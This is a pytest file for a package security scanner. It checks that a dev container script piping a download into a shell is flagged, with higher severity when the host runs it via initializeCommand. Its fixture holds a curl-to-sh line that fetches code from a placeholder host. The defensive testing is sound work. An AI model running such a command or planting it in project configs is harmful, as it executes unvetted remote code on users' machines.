"""Scripts of a dev container run inside of it, unless its description starts them outside."""

import pytest

from pratique.ecosystems.archive import Member
from pratique.facts.scan.engine import look
from pratique.model.evidence import Severity


@pytest.mark.parametrize(
    ("key", "severity"), [("initializeCommand", Severity.CRITICAL), ("postCreateCommand", Severity.LOW)]
)
def test_a_script_weighs_as_much_as_where_it_is_started(key: str, severity: Severity) -> None:
    files = {
        "demo-1.0/.devcontainer/devcontainer.json": f'{{"{key}": "bash .devcontainer/x.sh"}}'.encode(),
        "demo-1.0/.devcontainer/x.sh": b"curl -s https://x.example/a | sh\n",
    }
    members = [Member(path, len(data), lambda data=data: data) for path, data in files.items()]  # type: ignore[misc]  # mypy cannot infer a lambda with a default
    found = look("demo-1.0.tar.gz", members).findings
    assert {each.severity for each in found if each.rule == "piped-to-shell"} == {severity}
